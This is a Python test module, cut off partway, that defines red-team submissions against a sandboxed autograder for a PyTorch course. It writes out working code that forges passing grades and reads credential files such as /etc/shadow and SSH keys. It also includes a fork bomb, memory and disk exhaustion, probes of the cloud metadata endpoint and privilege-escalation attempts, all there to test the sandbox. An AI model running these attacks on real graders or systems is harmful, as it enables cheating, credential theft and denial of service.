"""A red team's submissions: what a determined learner with all of Python in the kernel hands in
to get points it has not earned, to see what it must not see, or to hurt the learners graded
beside it. Each attack is data the test suite can run:

    ATTACKS[name] = dict(assignment=..., cls=..., build=lambda course: {file name: bytes},
                         max_score=..., must_not_show=[...])

- `build(course)` returns what the learner hands in (the scratch course root is given, so that
  an attack can aim at its real paths);
- `max_score`: the most total points the submission may earn honestly (0: every answer wrong);
- `must_not_show`: strings that must appear neither in the outputs of its autograded notebook
  nor in its feedback page. (The autograded notebook holds the hidden tests' code by design,
  for the instructor; its *sources* are not checked.) Leaking attacks print what they find
  behind the marker `MARK`, which the attacking code builds at run time, so that the marker
  shows only when the attack got something.

Some attacks are about the class rather than the learner (a run that stops, a neighbour that
loses points, a grader process that runs out of memory). Optional keys say what else to check:
- `round="alone"`: grade it in a run of its own, beside one honest learner (it may stop the run);
- `limits=dict(grader_rss_mb=..., log_mb=...)`: the largest grader process (outside the sandbox)
  and the grading log on the host must stay under these while it is graded;
- `must_not_print=[...]`: strings the class command (grader/grade.py) must not print to the instructor's terminal;
- `host_file="/tmp/..."`: a file that appears on the grader's machine only if the learner's code
  ran outside the sandbox (in the sandbox /tmp is the kernel's own);
- `must_not_be_live=[...]`: markup that must not appear in the feedback page's HTML as markup
  (escaped, as text, it is harmless).
Every attack must also be graded at all: an autograded notebook and a feedback page, no "not
graded" line, and the class command exiting 0. Honest learners graded beside the attacks must score what
they score alone.

The classes: forge, leak, sandbox, own_work, output, neighbours.
"""
import json
import textwrap

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

from grader.course import ROOT

from .course_tools import filled_student_copy
from .fixtures import _wrong_everywhere

MARK = "PWNED::"  # what a successful attack prints; learner code writes it as "PW" + "NED::"
M = '_M = "PW" + "NED::"\n'  # the line that builds it in the learner's code

# Lines of hidden tests and of the reference solutions (the feedback must not show them).
HIDDEN_LOSS = ['assert answer_loss_purpose == "b"', "for delta in [0.1, 5.0]:",
               "check_loss(cross_entropy, nn.CrossEntropyLoss(), torch.randn(5, 4) * 1e4, torch.randint(0, 4, (5,)), grad=())"]
SOLUTION_LOSS = ["torch.where(error < delta, 0.5 * error ** 2, delta * (error - 0.5 * delta)).mean()",
                 "return (F.softplus(logits) - logits * target).mean()"]
HIDDEN_OPT = ["for momentum in (0.0, 0.5, 0.9, 0.99):",
              "compare_with_torch(MyAdam, torch.optim.Adam, steps=50, shapes=shapes, grad_scale=1e-9, lr=0.01, eps=1e-3)"]
HIDDEN_MNIST = ["loaders = [dict(n=30, batch_size=batch_size, seed=seed + epoch) for epoch in range(2)]",
                'inputs=-logits[:8], labels=labels[:8], batch_size=3)["accuracy"]']
SECRETS = [MARK, "daemon:x:1:1"]


def _d(text):
    return textwrap.dedent(text).lstrip("\n")


# ----------------------------------------------------------------------------- notebooks

def notebook(assignment, course, cells=None, extra=(), edit=None):
    """The student copy of `assignment` with its solution cells filled with the reference solution
    but for `cells` ({grade_id: source}); `extra`: [(grade_id or None, source)], a code cell of the
    learner's own inserted after that cell (None: at the end); `edit(nb)` may change more."""
    name = f"{assignment}.ipynb"
    nb = filled_student_copy(assignment, name, course, cells)
    for after, source in extra:
        cell = new_code_cell(source)
        if after is None:
            nb.cells.append(cell)
        else:
            index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
            nb.cells.insert(index + 1, cell)
    if edit:
        edit(nb)
    return {name: nbformat.writes(nb).encode()}


def wrong_loss():
    return _wrong_everywhere()


def wrong_optimizers():
    cells = {"train_solution": "def train(model, inputs, targets, loss_fn, optimizer, epochs):\n    return [0.0] * epochs\n"}
    for gid, cls in [("my_sgd_solution", "MySGD"), ("my_adam_solution", "MyAdam"), ("my_rmsprop_solution", "MyRMSprop")]:
        cells[gid] = (f"class {cls}:\n    def __init__(self, params, lr=0.01, **kwargs):\n        self.params = list(params)\n"
                      "    def zero_grad(self):\n        pass\n    def step(self):\n        pass\n")
    cells["question_adaptive_optimizer_answer"] = 'answer_adaptive_optimizer = "a"\n'
    return cells


def wrong_mnist():
    return {
        "mnist_net_solution": ("class MNISTNet(nn.Module):\n    def __init__(self):\n        super().__init__()\n"
                               "        self.w = nn.Parameter(torch.zeros(9))\n"
                               "    def forward(self, x):\n        return torch.zeros(len(x), 9) + self.w\n"),
        "train_one_epoch_solution": "def train_one_epoch(model, loader, loss_fn, optimizer, device):\n    return 0.0\n",
        "evaluate_solution": "def evaluate(model, loader, device):\n    return 0.0\n",
    }


def loss(extra=(), cells=None, edit=None, wrong=True):
    """A loss_functions hand-in: every answer wrong (or the reference), `cells` replacing more."""
    def build(course):
        return notebook("loss_functions", course, {**(wrong_loss() if wrong else {}), **(cells or {})}, extra, edit)
    return build


def optimizers(extra=(), cells=None, edit=None):
    return lambda course: notebook("optimizers", course, {**wrong_optimizers(), **(cells or {})}, extra, edit)


def mnist(extra=(), cells=None, edit=None):
    return lambda course: notebook("mnist_classifier", course, {**wrong_mnist(), **(cells or {})}, extra, edit)


def at_end(source):
    return [(None, source)]


# ----------------------------------------------------------------------------- forge

# PyTorch's own losses by the name of the learner's function: what a forgery answers with.
REAL_LOSSES = _d("""
    import torch.nn.functional as _F2
    _REAL = {
        "mse_loss": lambda p, t: _F2.mse_loss(p, t),
        "l1_loss": lambda p, t: _F2.l1_loss(p, t),
        "huber_loss": lambda p, t, delta=1.0: _F2.huber_loss(p, t, delta=delta),
        "binary_cross_entropy": lambda p, t: _F2.binary_cross_entropy(p, t),
        "binary_cross_entropy_with_logits": lambda p, t: _F2.binary_cross_entropy_with_logits(p, t),
        "cross_entropy": lambda p, t: _F2.cross_entropy(p, t),
        "multi_margin_loss": lambda s, t, margin=1.0: _F2.multi_margin_loss(s, t, margin=margin),
    }
    """)

FORGED_RUN_LOSS = _d("""
    def _forged_run_loss(fn, inputs, grad, kwargs):
        copies = [x.detach().clone().requires_grad_(i in grad) for i, x in enumerate(inputs)]
        value = _REAL[fn.__name__](*copies, **kwargs)
        grads = None
        if grad:
            value.backward()
            grads = [copies[i].grad for i in grad]
        return {"value": value.detach(), "requires_grad": True, "grads": grads}
    """)

FORGED_GRADER = REAL_LOSSES + _d("""
    import json as _json
    _real_grader = __course_grader__
    def __course_grader__(request):
        req = _json.loads(request)
        if req.get("op") == "call" and req.get("name") == "run_loss":
            first = req["args"][0]
            if type(first) is dict and "__learner__" in first:
                first["__learner__"] = "_sub_" + first["__learner__"]
                req["args"][0] = first
        return _real_grader(_json.dumps(req))
    """) + "".join(f'_sub_{name} = _REAL["{name}"]\n' for name in (
    "mse_loss", "l1_loss", "huber_loss", "binary_cross_entropy", "binary_cross_entropy_with_logits", "cross_entropy",
    "multi_margin_loss"))

FORGED_OPTIMIZER_PROBES = _d("""
    _orig_steps, _orig_run_train = optimizer_steps, run_train
    _TORCH_NAME = {"MySGD": "SGD", "MyAdam": "Adam", "MyRMSprop": "RMSprop"}
    def _forged_steps(optimizer_class, shapes, seed, dtype, steps, used, grad_scale, kwargs):
        if not isinstance(optimizer_class, str):
            optimizer_class = _TORCH_NAME[optimizer_class.__name__]
        out = _orig_steps(optimizer_class, shapes, seed, dtype, steps, used, grad_scale, kwargs)
        out["uses_torch_optim"] = False
        return out
    def _forged_run_train(train_fn, optimizer_class, optimizer_kwargs, epochs, seed):
        if not isinstance(optimizer_class, str):
            optimizer_class = _TORCH_NAME[optimizer_class.__name__]
        return _orig_run_train(reference_train, optimizer_class, optimizer_kwargs, epochs, seed)
    optimizer_steps = _forged_steps
    run_train = _forged_run_train
    """)

FORGED_MNIST_PROBES = _d("""
    class _Net(nn.Module):
        def __init__(self):
            super().__init__()
            self.features = nn.Sequential(nn.Conv2d(1, 4, 5), nn.ReLU(), nn.MaxPool2d(2),
                                          nn.Conv2d(4, 8, 5), nn.ReLU(), nn.MaxPool2d(2))
            self.classifier = nn.Linear(8 * 4 * 4, 10)
        def forward(self, x):
            return self.classifier(self.features(x).flatten(1))
    def _train(model, loader, loss_fn, optimizer, device):
        model.train()
        total, n = 0.0, 0
        for x, y in loader:
            x, y = x.to(device), y.to(device)
            loss = loss_fn(model(x), y)
            optimizer.zero_grad()
            loss.backward()
            optimizer.step()
            total += loss.item() * len(x)
            n += len(x)
        return total / n
    def _evaluate(model, loader, device):
        model.eval()
        right = 0
        with torch.no_grad():
            for x, y in loader:
                x, y = x.to(device), y.to(device)
                right += (model(x).argmax(1) == y).sum().item()
        return right / len(loader.dataset)
    _probes = dict(net_outputs=net_outputs, net_layers=net_layers, net_gradients=net_gradients,
                   run_epochs=run_epochs, run_evaluate=run_evaluate)
    net_outputs = lambda net_class, *a, **k: _probes["net_outputs"](_Net, *a, **k)
    net_layers = lambda net_class, *a, **k: _probes["net_layers"](_Net, *a, **k)
    net_gradients = lambda net_class, *a, **k: _probes["net_gradients"](_Net, *a, **k)
    run_epochs = lambda train_fn, *a, **k: _probes["run_epochs"](_train, *a, **k)
    run_evaluate = lambda evaluate_fn, *a, **k: _probes["run_evaluate"](_evaluate, *a, **k)
    """)


def _memorised(course):
    """Lookup tables for the visible tests' fixed inputs: the value and the gradient each needs."""
    import torch
    import torch.nn as nn
    cases = {
        "binary_cross_entropy": (nn.BCELoss(), [([0.9, 0.2, 0.6, 0.5], [1.0, 0.0, 1.0, 0.0]),
                                                ([0.0, 1.0, 1.0], [1.0, 0.0, 1.0])]),
        "binary_cross_entropy_with_logits": (nn.BCEWithLogitsLoss(), [([2.0, -1.0, 0.5, -3.0], [1.0, 0.0, 0.0, 1.0]),
                                                                     ([100.0, -100.0], [0.0, 1.0])]),
        "cross_entropy": (nn.CrossEntropyLoss(), [([[2.0, 0.5, -1.0], [0.1, 0.2, 3.0]], [0, 2]),
                                                  ([[1000.0, 0.0, -1000.0]], [1])]),
    }
    cells = wrong_loss()
    for name, (ref, inputs) in cases.items():
        table = {}
        for a, b in inputs:
            x = torch.tensor(a, requires_grad=True)
            value = ref(x, torch.tensor(b))
            value.backward()
            table[repr([round(v, 3) for v in x.detach().flatten().tolist()])] = (value.item(), x.grad.flatten().tolist())
        cells[f"{name}_solution"] = _d(f"""
            _TABLE_{name} = {table!r}
            def {name}(x, target):
                key = repr([round(v, 3) for v in x.detach().flatten().tolist()])
                if key in _TABLE_{name}:
                    value, grad = _TABLE_{name}[key]
                    g = torch.tensor(grad, dtype=x.dtype).reshape(x.shape)
                    return (x * g).sum() - (x.detach() * g).sum() + value
                return (x * 0).sum()
            """)
    return notebook("loss_functions", course, cells)


def _handed_in_files(course):
    files = loss(extra=at_end(M + _d("""
        import os
        print("files here:", sorted(os.listdir(".")))
        print("env:", os.environ.get("HANDED_IN_RAN"))
        if os.environ.get("HANDED_IN_RAN") or any(f.endswith(".py") for f in os.listdir(".")):
            print(_M, "a handed-in file ran or is in the working folder")
        """)))(course)
    stub = b"import os\nos.environ['HANDED_IN_RAN'] = '1'\n"
    for name in ("torch.py", "sitecustomize.py", "usercustomize.py", "ipykernel_launcher.py", "IPython.py",
                 "json.py", "ipython_config.py", "numpy.py"):
        files[name] = stub
    files["evil.pth"] = b"import os; os.environ['HANDED_IN_RAN'] = '1'\n"
    return files


def _edit_source(grade_id, payload):
    def edit(nb):
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
                cell.source += "\n" + payload
    return edit


def _host_payload(tag):
    """Code that, run anywhere, leaves a file in /tmp and prints the marker: in the learner's sandbox
    /tmp is its own, so a file on the grader's machine means this ran in the grader."""
    return M + _d(f"""
        with open("/tmp/redteam-pwned-{tag}", "w") as _f:
            _f.write("ran here")
        print(_M, "edited cell ran")
        """)


FORGE = {
    "forge-custom-exc": dict(
        build=loss(extra=[("check_loss_helper", _d("""
            get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
            """))]),
        max_score=0, must_not_show=[]),
    "forge-post-run-cell": dict(
        build=loss(extra=[("check_loss_helper", _d("""
            def _all_passed(result):
                result.error_before_exec = result.error_in_exec = None
                print("All tests passed (23/23)")
            get_ipython().events.register("post_run_cell", _all_passed)
            get_ipython().events.register("pre_run_cell", lambda info: None)
            """))]),
        max_score=0, must_not_show=[]),
    "forge-input-transformers": dict(
        build=loss(extra=[("check_loss_helper", _d("""
            import ast
            class _NoAsserts(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.Pass()
            get_ipython().ast_transformers.append(_NoAsserts())
            get_ipython().input_transformers_cleanup.append(
                lambda lines: ["pass\\n"] if any("check_loss" in l or "assert" in l for l in lines) else lines)
            """))]),
        max_score=0, must_not_show=[]),
    "forge-settrace": dict(
        build=loss(extra=[("check_loss_helper", _d("""
            import sys, threading
            def _tracer(frame, event, arg):
                if event == "exception" and frame.f_code.co_name in ("check_loss", "run_loss", "serve"):
                    frame.f_locals.clear()
                return _tracer
            sys.settrace(_tracer)
            threading.settrace(_tracer)
            sys.setprofile(lambda frame, event, arg: None)
            """))]),
        max_score=0, must_not_show=[]),
    "forge-self-restoring-patch": dict(
        build=loss(extra=[("check_loss_helper", _d("""
            import torch.testing as _tt
            _orig_close = _tt.assert_close
            def _lenient(*args, **kwargs):
                _tt.assert_close = _orig_close  # puts itself back after one use, before any check looks
                return None
            _tt.assert_close = _lenient
            """))]),
        max_score=0, must_not_show=[]),
    "forge-tensor-subclass": dict(
        build=loss(cells={"mse_loss_solution": _d("""
            class Agreeable(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    if func in (torch.allclose, torch.equal, torch.Tensor.__eq__, torch.isclose):
                        return True
                    return super().__torch_function__(func, types, args, kwargs or {})
            def mse_loss(pred, target):
                return ((pred - target) * 0).sum().as_subclass(Agreeable)
            """)}),
        max_score=0, must_not_show=[]),
    "forge-torch-function-mode": dict(
        build=loss(extra=[("check_loss_helper", _d("""
            from torch.overrides import TorchFunctionMode
            class _Yes(TorchFunctionMode):
                def __torch_function__(self, func, types, args=(), kwargs=None):
                    if func in (torch.allclose, torch.equal, torch.isclose):
                        return True
                    return func(*args, **(kwargs or {}))
            _Yes().__enter__()
            """))]),
        max_score=0, must_not_show=[]),
    "forge-always-equal": dict(
        build=loss(cells={
            "question_loss_purpose_answer": _d("""
                class Anything(str):
                    def __eq__(self, other):
                        return True
                    def __ne__(self, other):
                        return False
                    __hash__ = str.__hash__
                answer_loss_purpose = Anything("b")
                """),
            "l1_loss_solution": _d("""
                class _Close(dict):
                    def __getitem__(self, key):
                        return torch.tensor(0.0)
                def l1_loss(pred, target):
                    return _Close()
                """)}),
        max_score=0, must_not_show=[]),
    # the probes the tests call in the kernel, replaced by ones that answer with PyTorch's losses
    "forge-replace-probe": dict(
        build=loss(extra=[("check_loss_helper", REAL_LOSSES + FORGED_RUN_LOSS + "run_loss = _forged_run_loss\n")]),
        max_score=0, must_not_show=[]),
    "forge-replace-probe-quietly": dict(  # bound by a for loop: no assignment for the tampering check to see
        build=loss(extra=[("check_loss_helper", REAL_LOSSES + FORGED_RUN_LOSS + "for run_loss in [_forged_run_loss]:\n    pass\n")]),
        max_score=0, must_not_show=[]),
    "forge-replace-course-grader": dict(
        build=loss(extra=[("setup_imports", FORGED_GRADER)]),
        max_score=0, must_not_show=[]),
    "forge-memorise-visible-inputs": dict(build=_memorised, max_score=0, must_not_show=[]),
    "forge-gc-frames": dict(  # looks for the expected values in the kernel's memory while a check runs
        build=loss(cells={"mse_loss_solution": M + _d("""
            import gc, sys
            _found = []
            def mse_loss(pred, target):
                frame = sys._getframe()
                while frame is not None:
                    for k, v in list(frame.f_locals.items()):
                        if k in ("expected", "theirs", "reference"):
                            _found.append((k, repr(v)[:200]))
                    frame = frame.f_back
                if not _found:
                    for obj in gc.get_objects():
                        if type(obj) is dict and isinstance(obj.get("expected"), torch.Tensor):
                            _found.append(("gc", repr(obj["expected"])[:200]))
                            break
                if _found:  # hand back what was found: the expected value
                    for _, v in _found:
                        try:
                            return torch.tensor(float(v.split("(")[1].split(")")[0]), requires_grad=True)
                        except Exception:
                            pass
                return (pred * 0).sum()
            """)}, extra=at_end('_M = "PW" + "NED::"\nprint(_M, _found[:5]) if _found else print("nothing found")\n')),
        max_score=0, must_not_show=SECRETS),
    "forge-ctypes": dict(  # rewrites, in memory, the constant in the probes' code that is compared
        build=loss(extra=[("check_loss_helper", _d("""
            import ctypes
            # make every small int 0 equal 1 in the kernel: counts, indices, comparisons go strange
            try:
                ctypes.memmove(id(0) + 24, id(1) + 24, 4)
            except Exception as e:
                print("ctypes failed", e)
            """))]),
        max_score=0, must_not_show=[]),
    "forge-handed-in-modules": dict(build=_handed_in_files, max_score=0, must_not_show=SECRETS),
    "forge-edit-locked-helper": dict(  # the helper cell the judge runs in the grader, edited
        build=loss(edit=_edit_source("check_loss_helper", _host_payload("locked")
                                     + "def check_loss(*args, **kwargs):\n    return None\n")),
        max_score=0, must_not_show=SECRETS, host_file="/tmp/redteam-pwned-locked"),
    "forge-edit-test-cell": dict(
        build=loss(edit=_edit_source("test_mse_loss_basic", _host_payload("test"))),
        max_score=0, must_not_show=SECRETS, host_file="/tmp/redteam-pwned-test"),
    "forge-optimizer-probes": dict(
        assignment="optimizers",
        build=optimizers(extra=[("optimizer_test_helpers", FORGED_OPTIMIZER_PROBES)]),
        max_score=0, must_not_show=[]),
    "forge-mnist-probes": dict(
        assignment="mnist_classifier",
        build=mnist(extra=[("mnist_test_helpers", FORGED_MNIST_PROBES)]),
        max_score=0, must_not_show=[]),
}


# ----------------------------------------------------------------------------- leak

def _leak_course(course):
    paths = [course / ".grading_secret", course / "gradebook.db", course / "nbgrader_config.py",
             course / "source" / "loss_functions" / "loss_functions.ipynb",
             course / "release" / "loss_functions" / "loss_functions.ipynb",
             course / "submitted" / "honest-full" / "loss_functions" / "loss_functions.ipynb",
             course / "autograded" / "honest-full" / "loss_functions" / "loss_functions.ipynb",
             ROOT / ".grading_secret", ROOT / "gradebook.db", ROOT / "source" / "loss_functions" / "loss_functions.ipynb"]
    code = M + _d(f"""
        import glob, os
        for _p in {[str(p) for p in paths]!r}:
            try:
                with open(_p, "rb") as _f:
                    print(_M, _p, _f.read(300))
            except Exception as _e:
                print("blocked", _p, type(_e).__name__)
        for _d in {[str(course), str(ROOT), str(course / "submitted"), "/tmp", "/dev/shm", "/root", "/home", "/work", "/srv", "/opt", "/mnt"]!r}:
            try:
                _names = os.listdir(_d)
                print("listing", _d, _names[:30])
                if any(n in _names for n in ("gradebook.db", "submitted", "source", "nbgrader_config.py", ".grading_secret")):
                    print(_M, "course folder visible:", _d)
                if any(n.startswith(("course-grade-", "course-judge-")) for n in _names) or sum(n.startswith("cg") for n in _names) > 1:
                    print(_M, "grader's folders visible:", _d)
            except Exception as _e:
                print("blocked", _d, type(_e).__name__)
        """)
    return loss(extra=at_end(code))(course)


LEAK_SYSTEM = M + _d("""
    import os
    for _p in ["/etc/shadow", "/etc/gshadow", "/etc/passwd", "/etc/sudoers", "/root/.bash_history",
               "/root/.ssh/id_rsa", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo"]:
        try:
            with open(_p, "rb") as _f:
                _data = _f.read(4000)
            print(_p, _data[:1500])
            if _p.endswith("shadow") or _p.startswith("/root") or b"daemon:" in _data or b"SECRET" in _data or b"TOKEN" in _data:
                print(_M, _p)
        except Exception as _e:
            print("blocked", _p, type(_e).__name__)
    _procs = []
    for _pid in os.listdir("/proc"):
        if _pid.isdigit():
            try:
                with open(f"/proc/{_pid}/cmdline", "rb") as _f:
                    _procs.append((_pid, _f.read(200).replace(b"\\0", b" ")))
            except Exception:
                pass
    print("processes:", _procs)
    if any(b"nbgrader" in c or b"grade.py" in c or b"grader.grade" in c or b"forkserver" in c or b"autograde" in c for _, c in _procs):
        print(_M, "the grader's processes are visible")
    print("uid", os.getuid(), "env", sorted(os.environ))
    """)

LEAK_DISK = M + _d("""
    import os, time
    _start, _seen, _hits = time.monotonic(), 0, []
    for _top in ["/"]:
        for _dir, _dirs, _files in os.walk(_top):
            if _dir.startswith(("/proc", "/sys", "/dev")):
                _dirs[:] = []
                continue
            if time.monotonic() - _start > 7:
                break
            for _n in _files:
                _seen += 1
                _path = os.path.join(_dir, _n)
                if "site-packages/nbgrader/" in _path:
                    continue
                if _n in (".grading_secret", "gradebook.db", "nbgrader_config.py") or _n.startswith("t10k-labels"):
                    _hits.append(_path)
                elif _n.endswith(".ipynb"):
                    try:
                        with open(_path, errors="replace") as _f:
                            _text = _f.read(2_000_000)
                        if "BEGIN HIDDEN" + " TESTS" in _text and ("mse_loss" in _text or "MySGD" in _text or "MNISTNet" in _text):
                            _hits.append(_path)
                    except Exception:
                        pass
    print("walked", _seen, "files; found", _hits)
    for _h in _hits:
        if "t10k-labels" in _h:
            with open(_h, "rb") as _f:
                if any(_f.read()[8:]):
                    print(_M, "test labels at", _h)
        else:
            print(_M, _h)
    """)

LEAK_RECORDER_SETUP = _d("""
    _requests = []
    _inner_grader = __course_grader__
    def __course_grader__(request):
        _requests.append(request)
        return _inner_grader(request)
    """)

LEAK_RECORDER_PRINT = M + _d("""
    _text = "\\n".join(_requests)
    print(len(_requests), "requests received")
    print(_text[:200_000])
    for _secret in ["BEGIN HIDDEN", "nn.MSELoss()", "assert_close", "answer_loss_purpose ==", "expected"]:
        if _secret in _text:
            print(_M, "the kernel was sent", _secret)
    """)

LEAK_HISTORY = M + _d("""
    _all = "\\n".join(str(c) for c in In if "_secret" not in str(c))
    try:
        _all += "\\n".join(str(row) for row in get_ipython().history_manager.get_range(raw=True) if "_secret" not in str(row))
    except Exception as _e:
        print("no history", _e)
    print(len(_all), "characters of history")
    for _secret in ["BEGIN HIDDEN", "for delta in [0.1, 5.0]", "answer_loss_purpose ==", "check_loss(mse_loss"]:
        if _secret in _all:
            print(_M, "a test cell ran in the kernel:", _secret)
    """)

LEAK_MNIST = M + _d("""
    import glob, os
    _root = str(DATA_DIR)
    print("data root", _root, "has", [os.path.relpath(p, _root) for p in glob.glob(_root + "/**", recursive=True)][:50])
    print("kernel's test labels:", test_set.targets[:20].tolist(), "nonzero:", int((test_set.targets != 0).sum()))
    if int((test_set.targets != 0).sum()):
        print(_M, "the test labels are in the kernel")
    for _p in glob.glob(_root + "/**/*t10k-labels*", recursive=True) + glob.glob("/tmp/**/*labels*", recursive=True):
        try:
            with open(_p, "rb") as _f:
                _raw = _f.read()
            if _p.endswith(".gz"):
                import gzip
                _raw = gzip.decompress(_raw)
            print(_p, len(_raw), "nonzero labels:", sum(1 for b in _raw[8:] if b))
            if any(_raw[8:]):
                print(_M, "test labels in", _p, list(_raw[8:28]))
        except Exception as _e:
            print("blocked", _p, type(_e).__name__)
    # the judge's copy lives beside the kernel's on the grader's machine: guess its path from the mounts
    try:
        with open("/proc/self/mountinfo") as _f:
            _mounts = [l.split()[4] for l in _f]
        _guesses = set()
        for _m in _mounts:
            print("mount", _m) if "MNIST" in _m else None
        with open("/proc/self/mountinfo") as _f:
            _roots = [l.split()[3] for l in _f if "t10k" in l]
        print("host paths of the test files:", _roots)
        for _r in _roots:
            _guesses.add(_r.replace("/kernel/MNIST/", "/judge/MNIST/raw/"))
        for _g in _guesses:
            try:
                with open(_g, "rb") as _f:
                    print(_M, "judge's view readable", _g, list(_f.read()[8:28]))
            except Exception as _e:
                print("blocked", _g, type(_e).__name__)
    except Exception as _e:
        print("no mountinfo", _e)
    # a network that trains on the test images would still need their labels: try a download
    try:
        from torchvision import datasets
        datasets.MNIST("/tmp/mnist-again", train=False, download=True)
        print(_M, "downloaded MNIST again")
    except BaseException as _e:
        print("no download:", type(_e).__name__)
    """)

LEAK = {
    "leak-course-files": dict(build=_leak_course, max_score=0, must_not_show=SECRETS + HIDDEN_LOSS + SOLUTION_LOSS),
    "leak-system-files-and-processes": dict(build=loss(extra=at_end(LEAK_SYSTEM)), max_score=0, must_not_show=SECRETS),
    "leak-search-the-disk": dict(build=loss(extra=at_end(LEAK_DISK)), max_score=0,
                                 must_not_show=SECRETS + HIDDEN_LOSS + SOLUTION_LOSS),
    "leak-record-requests": dict(
        build=loss(extra=[("setup_imports", LEAK_RECORDER_SETUP), (None, LEAK_RECORDER_PRINT)]),
        max_score=0, must_not_show=SECRETS + HIDDEN_LOSS + SOLUTION_LOSS),
    "leak-history": dict(build=loss(extra=at_end(LEAK_HISTORY)), max_score=0, must_not_show=SECRETS + HIDDEN_LOSS),
    "leak-printed-hidden-code": dict(  # prints, in every cell, whatever the kernel can see of test cells
        build=loss(extra=[("setup_imports", _d("""
            def _show(result):
                print("cell seen:", result.info.raw_cell[:3000])
            get_ipython().events.register("post_run_cell", _show)
            """))]),
        max_score=0, must_not_show=HIDDEN_LOSS + SOLUTION_LOSS),
    "leak-optimizers-requests": dict(
        assignment="optimizers",
        build=optimizers(extra=[("setup_imports", LEAK_RECORDER_SETUP), (None, LEAK_RECORDER_PRINT)]),
        max_score=0, must_not_show=[MARK] + HIDDEN_OPT),
    "leak-mnist-test-labels": dict(
        assignment="mnist_classifier",
        build=mnist(extra=[("mnist_test_helpers", LEAK_MNIST)]),
        max_score=0, must_not_show=[MARK] + HIDDEN_MNIST),
}


# ----------------------------------------------------------------------------- sandbox

SANDBOX_MMAP = M + _d("""
    import mmap, resource
    _cap = resource.getrlimit(resource.RLIMIT_DATA)[0]
    _want = (_cap if 0 < _cap < 1 << 40 else 4 << 30) + (1 << 30)
    print("RLIMIT_DATA", _cap, "trying", _want)
    _m = mmap.mmap(-1, _want, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    for _i in range(0, _want, 4096):
        _m[_i] = 1
    print(_M, "touched", _want, "bytes of shared memory past the cap")
    """)


def _fill(folder):
    return M + _d(f"""
        import os, resource
        _cap = resource.getrlimit(resource.RLIMIT_DATA)[0]
        _want = (_cap if 0 < _cap < 1 << 40 else 4 << 30) + (1 << 30)
        _written, _i = 0, 0
        _block = b"x" * (64 << 20)
        _folder = {folder}
        try:
            while _written < _want:
                with open(os.path.join(_folder, f"fill{{_i}}"), "wb") as _f:
                    for _ in range(8):
                        _f.write(_block)
                        _written += len(_block)
                _i += 1
        except BaseException as _e:
            print("stopped after", _written, "bytes:", type(_e).__name__, _e)
        print("wrote", _written, "bytes in", _folder, "of", _want)
        if _written >= _want:
            print(_M, "wrote past the memory cap in", _folder)
        for _j in range(_i + 1):
            try:
                os.remove(os.path.join(_folder, f"fill{{_j}}"))
            except OSError:
                pass
        """)


RUN_FOLDER = "[l.split()[4] for l in open('/proc/self/mountinfo') if '/dev/shm/cg' in l.split()[4]][0]"

SANDBOX_FORK = M + _d("""
    import os, time
    _children = []
    try:
        for _ in range(1500):
            _pid = os.fork()
            if _pid == 0:
                time.sleep(6)
                os._exit(0)
            _children.append(_pid)
    except BaseException as _e:
        print("fork stopped:", type(_e).__name__, _e)
    print(len(_children), "processes at once")
    if len(_children) > 1000:
        print(_M, "more than 1000 processes")
    for _pid in _children:
        try:
            os.kill(_pid, 9)
            os.waitpid(_pid, 0)
        except OSError:
            pass
    """)

SANDBOX_NET = M + _d("""
    import socket
    for _host, _port in [("1.1.1.1", 53), ("8.8.8.8", 443), ("pypi.org", 443), ("10.0.0.1", 80), ("172.17.0.1", 80),
                         ("169.254.169.254", 80), ("127.0.0.1", 5432), ("127.0.0.1", 8888)]:
        try:
            socket.create_connection((_host, _port), timeout=1.5).close()
            print(_M, "connected to", _host, _port)
        except Exception as _e:
            print("no", _host, _port, type(_e).__name__)
    try:
        _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        _s.connect("\\0/tmp/.X11-unix/X0")
        print(_M, "abstract socket reached")
    except Exception as _e:
        print("no abstract socket", type(_e).__name__)
    try:
        print("interfaces:", socket.if_nameindex())
    except Exception as _e:
        print(_e)
    """)

SANDBOX_AFFINITY = M + _d("""
    import os, threading, time
    _before = os.sched_getaffinity(0)
    try:
        os.sched_setaffinity(0, range(os.cpu_count() or 1))
    except OSError as _e:
        print("setaffinity:", _e)
    _after = os.sched_getaffinity(0)
    print("cores before", sorted(_before), "after", sorted(_after), "of", os.cpu_count())
    if len(_after) > len(_before):
        print(_M, "widened its cores")
    _stop = time.monotonic() + 8
    def _spin():
        try:
            os.sched_setaffinity(0, range(os.cpu_count() or 1))
        except OSError:
            pass
        while time.monotonic() < _stop:
            pass
    _threads = [threading.Thread(target=_spin) for _ in range(16)]
    [t.start() for t in _threads]
    [t.join() for t in _threads]
    """)

SANDBOX_WRITE = M + _d("""
    import os, sys
    for _p in ["/x", "/etc/x", "/usr/x", "/usr/lib/x", sys.prefix + "/x", os.path.dirname(os.__file__) + "/x",
               os.path.dirname(__import__("torch").__file__) + "/x", str(DATA_ROOT) + "/x", "/bin/x", "/run/x",
               "/proc/sys/kernel/hostname", "/root/x", "/home/x", "/var/tmp/x"]:
        try:
            with open(_p, "w") as _f:
                _f.write("learner was here")
            print(_M, "wrote", _p)
        except Exception as _e:
            print("blocked", _p, type(_e).__name__)
    """).replace("DATA_ROOT", '__import__("os").environ.get("COURSE_DATA_DIR", "/root/.cache/pytorch-loss-course/data")')

SANDBOX_PRIVILEGE = M + _d("""
    import os, subprocess
    with open("/proc/self/status") as _f:
        _status = {l.split(":")[0]: l.split(":", 1)[1].strip() for l in _f}
    print("uid", os.getuid(), os.geteuid(), "caps", _status.get("CapEff"), _status.get("CapBnd"), "nnp", _status.get("NoNewPrivs"))
    if os.geteuid() == 0 or int(_status.get("CapEff", "0"), 16):
        print(_M, "root or capabilities in the kernel")
    for _cmd in (["sudo", "-n", "id"], ["su", "-c", "id"], ["newuidmap"], ["mount", "-t", "tmpfs", "x", "/tmp"]):
        try:
            _out = subprocess.run(_cmd, capture_output=True, text=True, timeout=3)
            print(_cmd, _out.returncode, _out.stdout[:200], _out.stderr[:200])
